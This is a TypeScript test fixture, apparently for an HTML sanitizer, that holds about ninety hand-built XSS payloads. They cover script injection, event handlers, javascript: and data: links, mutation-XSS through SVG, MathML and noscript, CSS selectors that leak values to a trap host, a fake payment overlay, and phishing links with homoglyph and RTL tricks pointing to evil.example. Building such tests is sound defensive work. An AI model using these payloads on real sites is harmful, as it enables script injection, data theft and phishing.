import { HOSTILE_KINDS } from './hostile-kinds.ts';
import { RUN, RUN_URL, TRAP } from './hostile-words.ts';

const RUN_ENTITIES = RUN.replaceAll(/./gu, (char) => `&#${char.codePointAt(0) ?? 0};`);
const PAGE = `<script>${RUN}</script>`;
const PAGE_BASE64 = Buffer.from(PAGE).toString('base64');
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${TRAP}/svg"/></svg>`;
const SVG_BASE64 = Buffer.from(SVG).toString('base64');

/** HTML as strangers with bad intent send it, by what it tries; by hand, where it has to be put together. */
const BY_HAND: readonly (readonly [name: string, html: string])[] = [
  // Scripts
  ['script', `<script>${RUN}</script>`],
  ['script from elsewhere', `<script src="${TRAP}/a.js"></script>`],
  ['module from elsewhere', `<script type="module">import '${TRAP}/m.js'</script>`],
  ['script cut in two', `<scr<script></script>ipt>${RUN}</scr<script></script>ipt>`],
  ['script in odd letters', `<ScRiPt\n/x="1">${RUN}</sCrIpT >`],
  ['script with a slash', `<script/src="${TRAP}/s.js"/>`],
  ['script after a null', `<scr\u0000ipt>${RUN}</scr\u0000ipt>`],
  [
    'import map',
    `<script type="importmap">{"imports":{"a":"${TRAP}/map.js"}}</script><script type="module">import 'a'</script>`,
  ],
  [
    'speculation rules',
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${TRAP}/spec"]}]}</script>`,
  ],
  // Event handlers
  ['image that fails', `<img src="x:" onerror="${RUN}">`],
  ['image without spaces', `<img/src=x:/onerror=${RUN_ENTITIES}>`],
  ['body that loads', `</p></body><body onload="${RUN}" onpageshow="${RUN}" onhashchange="${RUN}">`],
  ['focus', `<input autofocus onfocus="${RUN}"><div tabindex="0" autofocus onfocus="${RUN}">x</div>`],
  ['animation', `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart="${RUN}">x</b>`],
  ['transition', `<b style="transition:1ms;color:red" ontransitionend="${RUN}" onmouseover="${RUN}">x</b>`],
  ['details that open', `<details open ontoggle="${RUN}"><summary>more</summary>x</details>`],
  ['found by the browser', `<div hidden="until-found" onbeforematch="${RUN}">x</div>`],
  ['popover', `<button popovertarget="p">x</button><div id="p" popover onbeforetoggle="${RUN}">x</div>`],
  ['marquee', `<marquee onstart="${RUN}" loop="1">x</marquee>`],
  [
    'video',
    `<video autoplay onerror="${RUN}" poster="${TRAP}/poster"><source src="${TRAP}/v" onerror="${RUN}"></video>`,
  ],
  ['audio', `<audio src="${TRAP}/a" autoplay onerror="${RUN}"></audio>`],
  ['pointer over everything', `<div style="position:fixed;inset:0" onclick="${RUN}" onpointerenter="${RUN}">x</div>`],
  // Links and addresses
  ['javascript link', `<a href="${RUN_URL}">Read it</a>`],
  [
    'javascript link in disguise',
    `<a href=" java&#9;script&#58;${RUN_ENTITIES}">Read it</a><a href="\u0001javascript:${RUN}">x</a>`,
  ],
  ['vbscript link', `<a href="vbscript:msgbox(1)">x</a>`],
  ['data link', `<a href="data:text/html;base64,${PAGE_BASE64}" target="_top">Read it</a>`],
  ['blob link', `<a href="blob:null/1" download="x.html">x</a>`],
  ['link that leaves the frame', `<a href="${TRAP}/top" target="_top" ping="${TRAP}/ping">Read it</a>`],
  [
    'link with a picture map',
    `<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m"><area shape="default" href="${RUN_URL}" ping="${TRAP}/area"></map>`,
  ],
  ['base', `<base href="${TRAP}/" target="_top"><a href="x">x</a><img src="relative">`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${TRAP}/refresh">`],
  ['meta refresh to a script', `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${PAGE_BASE64}">`],
  [
    'meta that sets a policy',
    `<meta http-equiv="Content-Security-Policy" content="default-src *; img-src *"><img src="${TRAP}/csp">`,
  ],
  [
    'meta that sets a cookie',
    `<meta http-equiv="Set-Cookie" content="a=b"><meta name="referrer" content="unsafe-url">`,
  ],
  // Things that load
  ['picture', `<img src="${TRAP}/pixel.gif" width="1" height="1">`],
  ['picture without a protocol', `<img src="//trap.example/pixel.gif"><img src="\\\\trap.example\\x.gif">`],
  [
    'srcset',
    `<img srcset="${TRAP}/1x 1x, ${TRAP}/2x 2x" sizes="100vw"><picture><source srcset="${TRAP}/pic"><img></picture>`,
  ],
  ['lazy and dynamic', `<img lowsrc="${TRAP}/low" dynsrc="${TRAP}/dyn" src="${TRAP}/lazy" loading="eager">`],
  [
    'background',
    `<table background="${TRAP}/table"><tr><td background="${TRAP}/td">x</td></tr></table><body background="${TRAP}/body">`,
  ],
  [
    'link tags',
    `<link rel="stylesheet" href="${TRAP}/css"><link rel="preload" as="image" href="${TRAP}/pre"><link rel="prefetch" href="${TRAP}/pf"><link rel="dns-prefetch" href="//trap.example"><link rel="preconnect" href="${TRAP}"><link rel="icon" href="${TRAP}/icon">`,
  ],
  ['manifest', `<link rel="manifest" href="${TRAP}/manifest.json"><link rel="modulepreload" href="${TRAP}/mod.js">`],
  [
    'object and embed',
    `<object data="${TRAP}/object"><embed src="${TRAP}/embed"></object><applet code="${TRAP}/applet"></applet>`,
  ],
  ['frames', `<frameset><frame src="${TRAP}/frame"></frameset><iframe src="${TRAP}/iframe"></iframe>`],
  ['fenced frame and portal', `<fencedframe src="${TRAP}/fenced"></fencedframe><portal src="${TRAP}/portal"></portal>`],
  ['track', `<video controls><track default src="${TRAP}/track"></video>`],
  // Styles
  ['style import', `<style>@import url("${TRAP}/import.css");@import "${TRAP}/import2.css";</style>`],
  [
    'style url',
    `<style>body{background:url(${TRAP}/bg)}p{list-style-image:url(${TRAP}/li);cursor:url(${TRAP}/cur),auto}</style><p>x</p>`,
  ],
  [
    'style that reads',
    `<style>a[href^="h"]{background-image:url(${TRAP}/leak)}input[value^="a"]{background:url(${TRAP}/a)}</style><a href="https://x.example/">x</a>`,
  ],
  ['inline style', `<p style="background:url('${TRAP}/inline');border-image:url(${TRAP}/border) 1">x</p>`],
  [
    'image-set and friends',
    `<p style="background:image-set(url(${TRAP}/set) 1x);mask:url(${TRAP}/mask);content:url(${TRAP}/content)">x</p>`,
  ],
  ['font', `<style>@font-face{font-family:t;src:url(${TRAP}/font)}p{font-family:t}</style><p>x</p>`],
  [
    'style that ends early',
    `<style></style><script>${RUN}</script></style><style><!--</style><img src="x:" onerror="${RUN}">--></style>`,
  ],
  [
    'style that covers the page',
    `<style>body{position:fixed;inset:0;z-index:99999}</style><h1 style="position:fixed;top:0;left:0;width:100vw;height:100vh">Ajar has expired. Pay here.</h1>`,
  ],
  [
    'old expressions',
    `<p style="width:expression(${RUN});behavior:url(${TRAP}/htc);-moz-binding:url(${TRAP}/xbl)">x</p>`,
  ],
  // Forms
  [
    'form',
    `<form action="${TRAP}/form" method="post" target="_top"><input name="password"><button>Sign in</button></form>`,
  ],
  [
    'button of another form',
    `<form id="f"></form><button form="f" formaction="${RUN_URL}">x</button><input type="image" form="f" formaction="${TRAP}/image" src="${TRAP}/inputimage">`,
  ],
  [
    'isindex and keygen',
    `<isindex action="${RUN_URL}"><keygen autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"><option>x</select>`,
  ],
  // Breaking out
  ['srcdoc', `<iframe srcdoc="${PAGE.replaceAll('"', '&quot;')}"></iframe>`],
  [
    'iframe with a script address',
    `<iframe src="${RUN_URL}"></iframe><iframe src="data:text/html;base64,${PAGE_BASE64}"></iframe>`,
  ],
  ['end of the frame', `</iframe><script>${RUN}</script><iframe>`],
  [
    'end of the attribute',
    `"></iframe><img src="x:" onerror="${RUN}">&quot;&gt;&lt;/iframe&gt;<script>${RUN}</script>`,
  ],
  ['end of the page', `</body></html><script>${RUN}</script><html><body onload="${RUN}">`],
  [
    'sandbox of its own',
    `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="${PAGE.replaceAll('"', '&quot;')}"></iframe>`,
  ],
  [
    'names of the page',
    `<a id="hacked" name="hacked">x</a><form name="document"><input name="cookie"></form><img name="getElementById"><a id="body"></a>`,
  ],
  // Other namespaces, and parsers that change their minds
  ['svg', SVG],
  [
    'svg that animates',
    `<svg><a><animate attributeName="href" values="${RUN_URL}"/><text y="20">x</text></a><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  ],
  [
    'svg that uses',
    `<svg><use href="data:image/svg+xml;base64,${SVG_BASE64}#x"/><use href="${TRAP}/use.svg#x"/></svg>`,
  ],
  [
    'svg with html in it',
    `<svg><foreignObject><iframe src="${RUN_URL}"></iframe><body onload="${RUN}"></foreignObject></svg>`,
  ],
  ['svg as a picture', `<img src="data:image/svg+xml;base64,${SVG_BASE64}">`],
  ['svg style', `<svg></p><style><a id="</style><img src=x: onerror=${RUN_ENTITIES}>">`],
  [
    'svg filter',
    `<svg><filter id="f"><feImage href="${TRAP}/fe"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  ],
  [
    'mathml',
    `<math><maction actiontype="statusline#${TRAP}" xlink:href="${RUN_URL}">x</maction><mi href="${RUN_URL}">x</mi></math>`,
  ],
  [
    'mathml that mutates',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN_ENTITIES}&gt;">`,
  ],
  ['form that mutates', `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${RUN}">`],
  ['noscript', `<noscript><p title="</noscript><img src=x: onerror=${RUN_ENTITIES}>"></noscript>`],
  ['title', `<title><a title="</title><img src=x: onerror=${RUN_ENTITIES}>"></title>`],
  ['textarea', `<textarea><a title="</textarea><img src=x: onerror=${RUN_ENTITIES}>"></textarea>`],
  [
    'xmp and plaintext',
    `<xmp><p title="</xmp><img src=x: onerror=${RUN_ENTITIES}>"></xmp><noembed><p title="</noembed><img src=x: onerror=${RUN_ENTITIES}>"></noembed><plaintext>`,
  ],
  [
    'select',
    `<select><template><style><!--</style></template></select><img alt="--><img src=x: onerror=${RUN_ENTITIES}>">`,
  ],
  ['comment', `<!--><img src="x:" onerror="${RUN}">--><!--!><script>${RUN}</script>--!>`],
  [
    'conditional comment',
    `<!--[if gte mso 9]><script>${RUN}</script><![endif]--><![if !mso]><script>${RUN}</script><![endif]>`,
  ],
  ['cdata', `<svg><![CDATA[</svg><img src="x:" onerror="${RUN}">]]></svg><![CDATA[<script>${RUN}</script>]]>`],
  ['processing instruction', `<?xml-stylesheet href="${TRAP}/pi.css"?><?php <script>${RUN}</script> ?>`],
  [
    'template',
    `<template><script>${RUN}</script></template><div><template shadowrootmode="open"><img src="x:" onerror="${RUN}"><slot></slot></template></div>`,
  ],
  [
    'shadow root with styles',
    `<div><template shadowrootmode="closed"><style>@import "${TRAP}/shadow.css"</style><script>${RUN}</script></template></div>`,
  ],
  ['custom element', `<x-a is="x-b" onclick="${RUN}" onload="${RUN}" style="background:url(${TRAP}/custom)">x</x-a>`],
  ['deep nesting', `${'<div>'.repeat(600)}<img src="x:" onerror="${RUN}">${'</div>'.repeat(600)}`],
  ['formatting that is reopened', `${'<b><p>'.repeat(60)}<a><table><a><img src="x:" onerror="${RUN}">`],
  ['attribute without end', `<img src="x:" alt="\`><script>${RUN}</script>`],
  ['utf-7', `<meta charset="utf-7">+ADw-script+AD4-${RUN}+ADw-/script+AD4-`],
  [
    'direction turned',
    `<p>\u202e<a href="${TRAP}/rlo">gpj.elpmaxe.knab</a>\u202c<bdo dir="rtl" onclick="${RUN}">x</bdo></p>`,
  ],
];

/** All of it, some two hundred and sixty. */
export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = [...BY_HAND, ...HOSTILE_KINDS];

/** Links whose words say another place than the one they lead to, and honest ones. */
export const LYING_LINKS: readonly (readonly [href: string, words: string])[] = [
  ['https://evil.example/1', 'https://bank.example/login'],
  ['https://evil.example/2', 'www.bank.example'],
  ['https://evil.example/3', 'bank.example'],
  ['https://evilbank.example/4', 'bank.example'],
  ['https://bank.example.evil.example/5', 'https://bank.example'],
  ['https://bank.example@evil.example/6', 'Sign in'],
  ['https://evil.example/7', 'https://ba\u200bnk.example/'],
  ['https://evil.example/8', '\u202ehttps://bank.example/\u202c'],
  // Letters that look like others, dots that are none, and an address of mail that leads to a page or to somebody else.
  ['https://xn--bnk-6cd.example/9', 'https://bank.example'],
  ['https://xn--bnk-6cd.example/10', 'bank.example'],
  ['https://evil.example/11', 'bank\uff0eexample'],
  ['https://evil.example/12', '\uff42ank.example'],
  ['https://evil.example/13', 'https://bank\u3002example/'],
  ['https://evil.example/14', 'ann@bank.example'],
  ['mailto:ann@evil.example', 'ann@bank.example'],
  ['https://evil.example/15', 'See https://bank.example/login'],
];
export const HONEST_LINKS: readonly (readonly [href: string, words: string])[] = [
  ['https://bank.example/a', 'https://bank.example/a'],
  ['https://www.bank.example/b', 'bank.example'],
  ['https://jobs.bank.example/c', 'www.bank.example'],
  ['https://bank.example/d', 'See our other openings'],
  ['mailto:ann@bank.example', 'ann@bank.example'],
  ['mailto:bea@bank.example', 'Write to Bea'],
  ['https://xn--bcher-kva.example/e', 'b\u00fccher.example'],
];

/** Payloads that may swallow what stands behind them: each is the last of its letter. */
const SWALLOWING: ReadonlySet<string> = new Set([
  'style that ends early',
  'isindex and keygen',
  'end of the frame',
  'end of the page',
  'svg style',
  'mathml that mutates',
  'form that mutates',
  'xmp and plaintext',
  'select',
  'comment',
  'cdata',
  'formatting that is reopened',
  'attribute without end',
]);

export interface HostileLetter {
  readonly names: readonly string[];
  readonly html: string;
}

/** All of them in few letters: the well-behaved ones dealt out, one that swallows at the end of each. */
export function hostileLetters(): readonly HostileLetter[] {
  const last = HOSTILE_HTML.filter(([name]) => SWALLOWING.has(name));
  const first = HOSTILE_HTML.filter(([name]) => !SWALLOWING.has(name));
  return last.map((end, at) => {
    const payloads = [...first.filter((_, index) => index % last.length === at), end];
    return { names: payloads.map(([name]) => name), html: payloads.map(([, html]) => `<div>${html}</div>`).join('\n') };
  });
}
